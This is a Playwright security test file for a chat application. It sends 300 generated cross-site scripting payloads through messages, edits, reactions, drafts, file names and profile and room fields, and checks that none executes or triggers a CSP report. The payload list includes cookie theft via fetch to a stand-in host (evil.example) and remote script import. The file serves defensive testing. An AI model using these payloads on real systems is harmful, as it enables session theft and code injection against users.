import { expect, type Page } from '@playwright/test';
import type { Person } from '../person.ts';
import { test } from '../world.ts';

/** Ways to run something from words; `§` becomes what would be run. */
const shapes = [
  '<script>§</script>',
  '<img src=x onerror=§>',
  '<img src="x" onerror="§">',
  '"><img src=x onerror=§>',
  "'><svg onload=§>",
  '<svg><animate onbegin=§ attributeName=x dur=1s>',
  '<iframe srcdoc="<script>§</script>">',
  '<iframe src=javascript:§>',
  '<body onload=§>',
  '<details open ontoggle=§>',
  '<video><source onerror=§></video>',
  '<input autofocus onfocus=§>',
  '<a href="javascript:§">x</a>',
  '[x](javascript:§)',
  '[x](JaVaScRiPt:§)',
  '[x](data:text/html,<script>§</script>)',
  '[x](vbscript:§)',
  '![x](x"onerror="§)',
  '![x](https://evil.example/x.png)',
  '<https://evil.example/"onmouseover="§>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=§>">',
  '<template><script>§</script></template>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<meta http-equiv=refresh content="0;url=javascript:§">',
  '<form action=javascript:§><button>x',
  '<object data="javascript:§">',
  '<embed src="javascript:§">',
  '{{constructor.constructor("§")()}}',
  '${§}',
  '`${§}`',
  '```html\n<script>§</script>\n```',
  '```"><img src=x onerror=§>\nx\n```',
  '`<img src=x onerror=§>`',
  '@ann<img src=x onerror=§>',
  '> <img src=x onerror=§>',
  '| <img src=x onerror=§> | a |\n|---|---|\n| b | c |',
  '\u202e<img src=x onerror=§>',
  '<img src=x onerror=&#x66;§>',
];
const acts = [
  'globalThis.ran=1',
  'alert(1)',
  'parent.ran=1',
  'fetch("https://evil.example/"+document.cookie)',
  'top.ran=1',
  'ran=1',
  'eval("ran=1")',
  'import("https://evil.example/x.js")',
];
const payloads = acts.flatMap((act) => shapes.map((shape) => shape.replaceAll('§', act))).slice(0, 300);

/** What must never happen on a page. */
async function watch(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) seen.push(`a request: ${request.url()}`);
  });
  await page.exposeFunction('report', (what: string) => seen.push(what));
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, sourceFile, sample }) =>
      (globalThis as unknown as { report(what: string): void }).report(`CSP ${violatedDirective} ${sourceFile} ${sample}`),
    );
  });
  return seen;
}

test('300 hostile payloads as message, reply, edit, reaction, draft, room, person, status and file name: nothing runs, no CSP report', async ({
  world,
  server,
}) => {
  test.slow(); // 300 messages, each with what was done to it, and every row on the screen of both
  const [ann, bob] = (await world('Lobby', 'ann', 'bob')) as [Person, Person];
  const room = new URL(ann.page.url()).pathname.split('/')[2]!;
  const seen = await Promise.all([ann, bob].map(({ page }) => watch(page)));
  expect(payloads).toHaveLength(300);
  await ann.page.evaluate(
    async ([id, words]) => {
      const handle = conclaveStories!.client.room(id);
      let last: string | undefined;
      for (const [i, text] of words.entries()) {
        const name = { name: text.replaceAll('\n', ' ').slice(0, 200), type: 'text/html' };
        const file = { id: 'A'.repeat(22), key: 'A'.repeat(43), hash: 'A'.repeat(43), size: 12, ...name };
        const mid: string = await handle.say(text, {
          ...(i % 3 === 1 && last ? { replyTo: last } : {}),
          ...(i % 10 === 2 ? { files: [file] } : {}),
        });
        if (i % 7 === 3) await handle.edit(mid, `${text} again`);
        if (i % 9 === 4) await handle.react(mid, text.slice(0, 60), true);
        last = mid;
      }
    },
    [room, payloads] as const,
  );
  // Names of people, rooms and topics are refused or kept as words; none is repaired.
  const { accessToken } = await ann.token();
  const headers = { authorization: `Bearer ${accessToken}`, 'content-type': 'application/json' };
  const refused: number[] = [];
  for (const text of payloads.slice(0, 40)) {
    const line = text.replaceAll('\n', ' ');
    const answers = await Promise.all([
      fetch(`${server.origin}/api/me`, { method: 'PATCH', headers, body: JSON.stringify({ displayName: line.slice(0, 40), about: text }) }),
      fetch(`${server.origin}/api/rooms`, {
        method: 'POST',
        headers,
        body: JSON.stringify({ name: line.slice(0, 30), topic: line.slice(0, 200) }),
      }),
    ]);
    refused.push(...answers.map(({ status }) => status).filter((status) => status >= 500));
  }
  expect(refused).toEqual([]);
  await ann.page.evaluate(([id, text]) => conclaveStories!.client.room(id).saveDraft(text), [room, payloads[1]!] as const);
  await expect.poll(async () => (await bob.transcript('Lobby')).length, { timeout: 60_000 }).toBeGreaterThanOrEqual(60);
  // Every row comes onto the screen once.
  for (const { page } of [ann, bob]) {
    const list = page.getByTestId('timeline');
    for (let i = 0; i < 60; i++) {
      await list.evaluate((element) => element.scrollBy(0, -700));
      await page.waitForTimeout(60);
    }
  }
  for (const path of ['/directory', '/search', '/profile', '/']) {
    await ann.page.goto(server.origin + path);
    await ann.page.waitForTimeout(700);
  }
  await bob.page.reload();
  await bob.page.waitForTimeout(1_500);
  for (const { page } of [ann, bob]) expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(seen.flat()).toEqual([]);
  expect([...ann.complaints, ...bob.complaints]).toEqual([]);
  // Who watches is awake: the same, done by the page itself, is seen.
  await ann.page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
      (globalThis as unknown as { report(what: string): void }).report(violatedDirective),
    );
    try {
      document.body.innerHTML = '<img src=x onerror=ran=1>';
    } catch {
      // Trusted types refuse it, and say so.
    }
  });
  await expect.poll(() => seen.flat().join()).toContain('require-trusted-types-for');
  ann.complaints.splice(0); // that one, which the browser wrote to the console as well
});
